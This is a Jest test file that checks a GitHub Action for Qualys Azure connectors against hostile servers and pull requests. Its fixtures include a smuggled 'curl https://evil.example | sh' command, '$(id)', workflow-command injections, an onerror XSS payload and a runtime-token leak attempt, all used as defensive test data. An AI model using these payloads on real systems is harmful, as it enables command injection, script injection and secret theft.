/**
 * Hostile servers, hostile pull requests (issue 8): the BUNDLED action (test-support/build-dist.js
 * says which), run as the runner runs it, against stand-ins that say what a real
 * attacker would — the stand-in gateway where it can, small node:http / node:net servers where
 * it cannot (a trickle, an endless answer), and the stand-in GitHub API (a hang, a refused edit).
 * One describe per class of the issue: nothing from outside becomes a command, markup, a leak
 * or a hang.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import http from 'node:http'
import net from 'node:net'
import type { AddressInfo } from 'node:net'
import {
  annotations,
  APP_ID,
  AZURE_SECRET,
  inlineInputs,
  passwordInputs,
  spec,
  specConnector,
  TENANT,
  TENANT_2,
  USER
} from '../test-support/e2e.js'
import { FakeQualysGateway } from '../test-support/gateway.js'
import { codeTexts, outsideCode, renderGfm } from '../test-support/gfm.js'
import { FakeGitHubApi, MAX_COMMENT_BODY, pullRequestEnv, scheduleEnv } from '../test-support/github-api.js'
import { runAction, type ActionRun } from '../test-support/run-action.js'

/** Every listing candidate the action may try (assumptions.ts). */
const LIST_PATH = /^\/connectors\/v1\.0\/org\/azure(\/list|\/)?$/
const CREATE_PATH = '/connectors/v1.0/org/azure/'
const BY_ID = /^\/connectors\/v1\.0\/org\/azure\/\d+$/
const OWNER = 'octo-org'
const REPO = 'cloud-config'
const MARKER = '<!-- qualys-azure-tenant-connector-plan -->'
/** A token the action is given (no login), for the hand-written hostile servers. */
const GIVEN_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJob3N0aWxlIn0.c2lnbmF0dXJl'

let gateway: FakeQualysGateway
let github: FakeGitHubApi

beforeEach(async () => {
  gateway = new FakeQualysGateway({ users: [USER] })
  github = new FakeGitHubApi()
  await Promise.all([gateway.start(), github.start()])
})
afterEach(() => Promise.all([gateway.stop(), github.stop()]))

function log(run: ActionRun): string {
  return `${run.stdout}\n${run.stderr}`
}

function expectExit(run: ActionRun, code: number): void {
  if (run.code !== code) throw new Error(`expected exit code ${code}, got ${run.code}\n${log(run)}`)
}

/** Seeds 'Contoso' as the inline connector would create it, with what the test adds. */
function seedContoso(extra: Record<string, unknown> = {}): number {
  return gateway.seed({
    name: 'Contoso',
    tenantId: TENANT,
    tenantName: 'contoso.onmicrosoft.com',
    applicationId: APP_ID,
    connectorPrefixName: 'contoso',
    ...extra
  }).id
}

function prEnv(number: number, extra: Record<string, string> = {}): Record<string, string> {
  return { ...pullRequestEnv(github, OWNER, REPO, number), ...extra }
}

/** The workflow commands the action itself issues; any other `::` line would be read as one. */
const OWN_COMMANDS = /^::(add-mask|debug|error|warning|notice|group|endgroup)(::| )/

/** Lines the runner would take as workflow commands that the action did not mean to issue. */
function foreignCommands(run: ActionRun): string[] {
  return run.lines.filter(
    line => (line.trimStart().startsWith('::') && !OWN_COMMANDS.test(line)) || line.includes('##[')
  )
}

/** A small server of our own, for what the stand-in gateway cannot say. */
async function listen(server: http.Server | net.Server): Promise<string> {
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

async function close(server: http.Server | net.Server, sockets: Set<net.Socket>): Promise<void> {
  for (const socket of sockets) socket.destroy()
  await new Promise<void>(resolve => server.close(() => resolve()))
}

// ---------------------------------------------------------------------------------------------

describe('nothing untrusted becomes a workflow command', () => {
  it('gateway values with line breaks, ::commands and ##[…] are logged on one line each, neutralised', async () => {
    seedContoso({
      description: 'old\n::add-mask::Contoso\r\n::stop-commands::tok\u2028::warning::injected ##[error]v1',
      state: 'SUCCESS\n::error::state-injected'
    })
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ description: 'new' }), mode: 'plan' }
    })
    expectExit(run, 0)
    expect(foreignCommands(run)).toEqual([])
    // Still there for a person to read, on the plan's own line.
    expect(run.stdout).toMatch(/~ description: old⏎:\u200b:add-mask:\u200b:Contoso⏎:\u200b:stop-commands:\u200b:tok/)
    expect(run.stdout).toContain('(id 100001, SUCCESS\\n:\u200b:error:\u200b:state-injected)')
    expect(run.lines.some(line => line.trimStart().startsWith('::add-mask::Contoso'))).toBe(false)
  })

  it('a server message in an error annotation cannot add a command either', async () => {
    gateway.fault({
      method: 'POST',
      path: CREATE_PATH,
      fault: {
        kind: 'status',
        status: 400,
        body: JSON.stringify({ message: 'refused\n::add-mask::Contoso\n##[warning]x' })
      }
    })
    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() } })
    expectExit(run, 1)
    expect(foreignCommands(run)).toEqual([])
    expect(annotations(run).join('\n')).toMatch(/refused :\u200b:add-mask:\u200b:Contoso #\u200b#\[warning\]x/)
  })

  it('shell-interpolated outputs that do not have their form are not set, and the connector is named', async () => {
    seedContoso({ state: 'SUCCESS"; curl https://evil.example | sh; echo "', uuid: '$(id)' })
    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs(), mode: 'plan' } })
    expectExit(run, 0)
    expect(run.outputs.state).toBe('')
    expect(run.outputs['connector-uuid']).toBe('')
    expect(run.outputs['connector-id']).toMatch(/^\d+$/)
    expect(run.outputs.result).toBe('unchanged')
    const warnings = annotations(run, 'warning').join('\n')
    expect(warnings).toMatch(
      /Contoso: output 'state' is not set: the value Qualys answered for it is not capital letters and _/
    )
    expect(warnings).toMatch(/Contoso: output 'connector-uuid' is not set/)
  })
})

describe('nothing untrusted becomes markup', () => {
  const NAME = 'a|b <img src=x onerror=alert(1)> <details open> @octo-org/admins `x` [y](https://evil.example)'
  /** What Qualys can hold in any text field: every payload GitHub would make live outside a code span. */
  const SERVER_TEXT =
    'see https://evil.example/login www.evil.com @octocat @octo-org/admins #12 <img src=x onerror=alert(1)> ' +
    '<details open> [y](https://evil.example) \\[click\\](https://evil.example) ``x` | *em*\n::error::pwned'
  const LIVE_WORDS = ['evil', 'octocat', 'octo-org/admins', '#12', 'onerror', 'pwned', '<em>']

  /**
   * Rendered as GitHub renders Markdown: no link, no image, no raw HTML, and no mention or
   * reference outside code. Table rows keep their cells: each holds its text whole.
   */
  function expectInert(markdown: string, shown: string[] = []): void {
    const html = renderGfm(markdown)
    expect(html).not.toMatch(/<a[\s>]/)
    expect(html).not.toMatch(/<img[\s>]|<details open/)
    const live = outsideCode(html)
    for (const word of LIVE_WORDS) expect(live).not.toContain(word)
    for (const text of shown) expect(codeTexts(html).some(code => code.includes(text))).toBe(true)
  }

  it('a hostile name from the spec and a hostile state from Qualys, in the job summary and the PR comment', async () => {
    gateway.seed({
      name: 'Plain',
      tenantId: TENANT_2,
      connectorPrefixName: 'plain',
      state: '<details open><summary>@octo-org/admins</summary>'
    })
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), 'spec-file': 'c.yaml', mode: 'plan', 'github-token': 'ghs_x' },
      env: { AZURE_SECRET, ...prEnv(5) },
      files: { 'c.yaml': spec(specConnector(JSON.stringify(NAME)), specConnector('Plain', TENANT_2)) }
    })
    expectExit(run, 0)
    const [comment] = github.comments(5)
    expectInert(run.summary, [NAME, '<details open><summary>@octo-org/admins</summary>'])
    expectInert(comment.body, [NAME, '<details open><summary>@octo-org/admins</summary>'])
  })

  it("validate mode's list of names is inert too", async () => {
    const run = await runAction({
      inputs: { 'spec-file': 'c.yaml', mode: 'validate' },
      env: { AZURE_SECRET },
      files: { 'c.yaml': spec(specConnector(JSON.stringify(NAME))) }
    })
    expectExit(run, 0)
    expect(run.summary).toContain(`- \`\`${NAME}\`\``)
    expectInert(run.summary, [NAME])
  })

  it("Qualys' text (a description edited in Qualys, lastError) is inert in the plan comment and the plan summary", async () => {
    seedContoso({ description: SERVER_TEXT, lastError: SERVER_TEXT })
    const run = await runAction({
      inputs: {
        ...passwordInputs(gateway.url),
        ...inlineInputs({ description: 'ours' }),
        mode: 'plan',
        'github-token': 'ghs_x'
      },
      env: prEnv(6)
    })
    expectExit(run, 0)
    const [comment] = github.comments(6)
    // The diff shows a line break as ⏎.
    const from = SERVER_TEXT.replace('\n', '⏎')
    expectInert(run.summary, [from])
    expectInert(comment.body, [from])
  })

  it("Qualys' text and a refusal's message are inert in the apply summary", async () => {
    seedContoso({ description: SERVER_TEXT })
    gateway.fault({
      method: 'POST',
      path: CREATE_PATH,
      fault: { kind: 'status', status: 400, body: JSON.stringify({ message: SERVER_TEXT }) }
    })
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), 'spec-file': 'c.yaml' },
      env: { AZURE_SECRET },
      files: {
        'c.yaml': spec(specConnector('Contoso', TENANT, 'description: ours'), specConnector('Fabrikam', TENANT_2))
      }
    })
    expectExit(run, 1)
    expect(run.summary).toMatch(/\| `Contoso` \| updated \|/)
    expect(run.summary).toMatch(/\| `Fabrikam` \| failed \|.*https:\/\/evil\.example/)
    expectInert(run.summary, [SERVER_TEXT.replace('\n', ' ')])
  })

  it("Qualys' text is inert in the check's issue and its summary: drift, health and names not in the spec", async () => {
    seedContoso({ description: SERVER_TEXT, lastError: SERVER_TEXT, state: 'ERROR' })
    gateway.seed({ name: SERVER_TEXT, tenantId: TENANT_2, connectorPrefixName: 'other' })
    const run = await runAction({
      inputs: {
        ...passwordInputs(gateway.url),
        ...inlineInputs({ description: 'ours' }),
        mode: 'check',
        'azure-preflight': 'false',
        issue: 'true',
        'github-token': 'ghs_x'
      },
      env: scheduleEnv(github, OWNER, REPO)
    })
    expectExit(run, 1)
    const [issue] = github.issues()
    const from = SERVER_TEXT.replace('\n', ' ')
    expectInert(run.summary, [from])
    expectInert(issue.body ?? '', [from])
  })
})

describe("the PR comment: within GitHub's limit, and never a stale plan", () => {
  const RUN = { GITHUB_SERVER_URL: 'https://github.com', GITHUB_RUN_ID: '4242' }
  const long = 'd'.repeat(1500)
  const bigSpec = spec(
    ...Array.from({ length: 150 }, (_, i) =>
      specConnector(`Tenant${String(i).padStart(3, '0')}`, TENANT, `description: ${long}`)
    )
  )

  function plan(
    number: number,
    files: Record<string, string> = { 'c.yaml': spec(specConnector('Contoso')) },
    inputs: Record<string, string> = {}
  ): Promise<ActionRun> {
    return runAction({
      inputs: {
        ...passwordInputs(gateway.url),
        'spec-file': 'c.yaml',
        mode: 'plan',
        'github-token': 'ghs_x',
        ...inputs
      },
      env: { AZURE_SECRET, ...prEnv(number, RUN) },
      files,
      timeoutMs: 40_000
    })
  }

  it('a plan longer than 65,536 characters is shortened, links the job summary, and replaces the previous plan', async () => {
    const old = github.seedComment(OWNER, REPO, 7, `${MARKER}\nold plan`, 'github-actions[bot]')
    const run = await plan(7, { 'c.yaml': bigSpec })
    expectExit(run, 0)
    expect(run.summary.length).toBeGreaterThan(MAX_COMMENT_BODY)
    const comments = github.comments(7)
    expect(comments).toHaveLength(1)
    expect(comments[0].id).toBe(old.id)
    expect(comments[0].body.length).toBeLessThanOrEqual(MAX_COMMENT_BODY)
    expect(comments[0].body).toContain('**Plan:** 150 to create, 0 to update, 0 unchanged.')
    expect(comments[0].body).toContain(
      '[the job summary of this run](https://github.com/octo-org/cloud-config/actions/runs/4242)'
    )
    expect(comments[0].body).toMatch(/… and \d+ more connectors/)
  })

  it('a plan comment that cannot be edited is replaced by a fresh one', async () => {
    github.seedComment(OWNER, REPO, 8, `${MARKER}\nold plan`, 'github-actions[bot]')
    github.refuse = { PATCH: 500 }
    const run = await plan(8)
    expectExit(run, 0)
    const comments = github.comments(8)
    expect(comments).toHaveLength(2)
    expect(comments[1].body).toContain('Contoso')
    expect(run.stdout).toContain('Plan comment created')
  })

  it('when neither an edit nor a fresh comment works, the step fails saying the plan on the PR is out of date', async () => {
    github.seedComment(OWNER, REPO, 9, `${MARKER}\nold plan`, 'github-actions[bot]')
    github.refuse = { PATCH: 500, POST: 500 }
    const run = await plan(9)
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(
      /Could not post the plan on the pull request: the earlier plan comment could not be edited .*out of date/
    )
  })

  it('an unresponsive GitHub API holds the plan for request-timeout on each of max-attempts, no longer', async () => {
    github.hang = true
    const run = await plan(10, undefined, { 'request-timeout': '2s', 'max-attempts': '2' })
    expectExit(run, 1)
    expect(github.requests).toHaveLength(2)
    expect(annotations(run).join('\n')).toMatch(
      /Could not post the plan on the pull request: list the comments of pull request #10 failed: no answer within 2 s; GitHub did not answer in time: raise request-timeout/
    )
    // The plan itself is still in the log and the summary.
    expect(run.summary).toContain('Contoso')
  }, 60_000)
})

describe('secrets cannot escape through formatting or the spec', () => {
  /** Non-ASCII, a tab, two spaces and a line break. */
  const SECRET = 'Gëheimnis-Ä\tÖ  Ü\nZeile-9qX'

  /** Every 5-character piece of the secret, as given or with its whitespace collapsed. */
  function pieces(): string[] {
    const out = new Set<string>()
    for (const form of [SECRET, SECRET.replace(/\s+/g, ' ')])
      for (let i = 0; i + 5 <= form.length; i++) out.add(form.slice(i, i + 5))
    return [...out]
  }

  function visible(run: ActionRun, extra: string[] = []): string {
    return [
      run.lines.filter(line => !line.startsWith('::add-mask::')).join('\n'),
      run.stderr,
      JSON.stringify(run.outputs),
      run.summary,
      ...extra
    ].join('\n')
  }

  it('echoed with every character \\u-escaped, across the 500-character clip: no piece of it shows', async () => {
    // Each character escaped (letters too): no registered form matches before the JSON is decoded.
    const escaped = [...SECRET].map(c => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
    const body = `{"status":400,"message":"${'x'.repeat(486)} ${escaped} is not a valid secretValue"}`
    gateway.fault({ method: 'POST', path: CREATE_PATH, times: Infinity, fault: { kind: 'status', status: 400, body } })
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ 'secret-value': SECRET }) },
      env: { RUNNER_DEBUG: '1' }
    })
    expectExit(run, 1)
    expect(JSON.parse(gateway.requests.find(r => r.path === CREATE_PATH)!.body).secretValue).toBe(SECRET)
    expect(annotations(run).join('\n')).toContain('Qualys rejected the request (400)')
    const text = visible(run)
    expect(pieces().filter(piece => text.includes(piece))).toEqual([])
  })

  it("${NAME} outside secretValue is refused: a pull request cannot publish the step's environment", async () => {
    const canary = 'RuntimeTokenCanary-7781'
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), 'spec-file': 'c.yaml', mode: 'plan', 'github-token': 'ghs_x' },
      env: { AZURE_SECRET, ACTIONS_RUNTIME_TOKEN: canary, ...prEnv(11) },
      files: { 'c.yaml': spec(specConnector('Contoso', TENANT, 'description: "token ${ACTIONS_RUNTIME_TOKEN}"')) }
    })
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(
      /::error file=c\.yaml,line=11,col=\d+::c\.yaml:11:\d+: connectors\[0\]\.description: holds a \$\{…\} reference; environment variables are read only in secretValue/
    )
    expect(gateway.requests).toHaveLength(0)
    // The failed plan replaces the comment with its problem, which names the reference, never its value.
    const bodies = github.comments(11).map(c => c.body)
    expect(bodies).toHaveLength(1)
    expect(bodies[0]).toContain('plan failed')
    expect(bodies[0]).toContain('holds a ${…} reference')
    expect(bodies.join('\n')).not.toContain(canary)
    expect(visible(run)).not.toContain(canary)
  })

  it('a gateway URL that does not parse is not echoed with its user:password@', async () => {
    const run = await runAction({
      inputs: {
        ...inlineInputs(),
        'qualys-gateway-url': 'https://ci_user:pa/ss@w0rd@gate way.example',
        'qualys-username': USER.username,
        'qualys-password': USER.password
      }
    })
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(
      /input 'qualys-gateway-url': is not a URL .*not shown because it holds an @/
    )
    expect(visible(run)).not.toMatch(/pa\/ss|w0rd/)
  })
})

describe('every wait has an end', () => {
  const sockets = new Set<net.Socket>()
  let server: http.Server | net.Server | undefined
  afterEach(async () => {
    if (server) await close(server, sockets)
    server = undefined
    sockets.clear()
  })

  function tokenInputs(url: string, extra: Record<string, string> = {}): Record<string, string> {
    return { 'qualys-gateway-url': url, 'qualys-token': GIVEN_TOKEN, ...inlineInputs(), ...extra }
  }

  it('headers trickled a byte at a time are cut off at request-timeout (the whole request, not the silence)', async () => {
    server = net.createServer(socket => {
      sockets.add(socket)
      socket.once('data', () => {
        socket.write('HTTP/1.1 200 OK\r\nX-Slow: ')
        const timer = setInterval(() => socket.write('a'), 100)
        socket.on('close', () => clearInterval(timer))
        socket.on('error', () => clearInterval(timer))
      })
    })
    const url = await listen(server)
    const run = await runAction({
      inputs: tokenInputs(url, { 'request-timeout': '2s', 'max-attempts': '2' }),
      timeoutMs: 25_000
    })
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(/List tenant connectors \(page 1\) failed: no answer within 2 s/)
  }, 40_000)

  it('an endless listing is cut at its size cap, with a clear message and no stack trace', async () => {
    const chunk = Buffer.from(`{"id":1,"name":"${'n'.repeat(60)}"},`.repeat(1000))
    server = http.createServer((req, res) => {
      sockets.add(req.socket)
      res.writeHead(200, { 'content-type': 'application/json' })
      res.write('{"content":[')
      const pump = (): void => {
        while (!res.destroyed && res.write(chunk));
        if (!res.destroyed) res.once('drain', pump)
      }
      pump()
    })
    const url = await listen(server)
    const run = await runAction({ inputs: tokenInputs(url), timeoutMs: 25_000 })
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(
      /List tenant connectors \(page 1\): Qualys answered with more than 32 MiB, more than any real answer; it was not read/
    )
    expect(log(run)).not.toMatch(/\n\s+at /)
  }, 40_000)

  it('a created connector keeps its outputs and summary when a later read answers JSON nested 200,000 deep', async () => {
    const deep = `{"id":1,"name":"Contoso","x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`
    gateway.fault({ method: 'GET', path: BY_ID, times: Infinity, fault: { kind: 'status', status: 200, body: deep } })
    const run = await runAction({
      inputs: { ...passwordInputs(gateway.url), ...inlineInputs(), 'wait-for-sync': 'true', 'sync-timeout': '20s' },
      timeoutMs: 40_000
    })
    expectExit(run, 1)
    const [created] = gateway.connectors()
    expect(run.outputs['connector-id']).toBe(String(created.id))
    expect(run.outputs['connector-uuid']).toBe(created.uuid)
    expect(run.summary).toContain(`| \`Contoso\` | failed | ${created.id} |`)
    expect(annotations(run).join('\n')).toMatch(
      /Contoso: the connector was written, but its state could not be read while waiting for the first sync: Read connector \d+: Qualys answered with JSON nested more than 64 levels deep/
    )
    expect(log(run)).not.toMatch(/Maximum call stack/)
  })

  it('a pause announced on a successful answer is waited out and logged with its length', async () => {
    gateway.fault({
      method: 'GET',
      path: LIST_PATH,
      fault: {
        kind: 'status',
        status: 200,
        headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-ToWait-Sec': '2' },
        body: '{"content":[]}'
      }
    })
    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() } })
    expectExit(run, 0)
    // That the calls after it wait is the rate gate's (qualys-rate-gate.test.ts), without a clock.
    expect(run.stdout).toMatch(/^Qualys' API budget is used up; it is back at \d\d:\d\d UTC: waiting 2 s$/m)
    expect(gateway.connectors()).toHaveLength(1)
  })

  it('an announced pause longer than rate-limit-wait (15 minutes) defers the run at once, naming when the budget is back', async () => {
    gateway.fault({
      method: 'GET',
      path: LIST_PATH,
      fault: {
        kind: 'status',
        status: 200,
        headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-ToWait-Sec': '100000' },
        body: '{"content":[]}'
      }
    })
    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() }, timeoutMs: 20_000 })
    expectExit(run, 1)
    expect(gateway.requests.filter(r => r.path === CREATE_PATH)).toHaveLength(0)
    expect(annotations(run)).toHaveLength(1)
    expect(annotations(run)[0]).toMatch(
      /Qualys' API budget is used up until (\d{4}-\d\d-\d\d )?\d\d:\d\d UTC: waiting 27 h 47 min is more than rate-limit-wait \(15 min\) allows\. 1 of 1 connector was deferred/
    )
    expect(JSON.parse(run.outputs.connectors)).toEqual([expect.objectContaining({ result: 'deferred' })])
  })
})

describe('spec edge cases', () => {
  const COMPOSED = 'Caf\u00e9 Z\u00fcrich'
  const DECOMPOSED = 'Cafe\u0301 Zu\u0308rich'

  it('two spec names that render the same are one name', async () => {
    const run = await runAction({
      inputs: { 'spec-file': 'c.yaml', mode: 'validate' },
      env: { AZURE_SECRET },
      files: { 'c.yaml': spec(specConnector(COMPOSED), specConnector(DECOMPOSED, TENANT_2)) }
    })
    expectExit(run, 1)
    expect(annotations(run).join('\n')).toMatch(/connectors\[1\]\.name: name '.*' is already used by connectors\[0\]/)
  })

  it('a spec name that renders like a connector in Qualys is that connector: no duplicate is created', async () => {
    gateway.seed({
      name: COMPOSED,
      tenantId: TENANT,
      tenantName: 'contoso.onmicrosoft.com',
      applicationId: APP_ID,
      connectorPrefixName: 'contoso'
    })
    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ name: DECOMPOSED }) } })
    expectExit(run, 0)
    expect(gateway.connectors()).toHaveLength(1)
    expect(run.outputs.result).toBe('unchanged')
  })
})
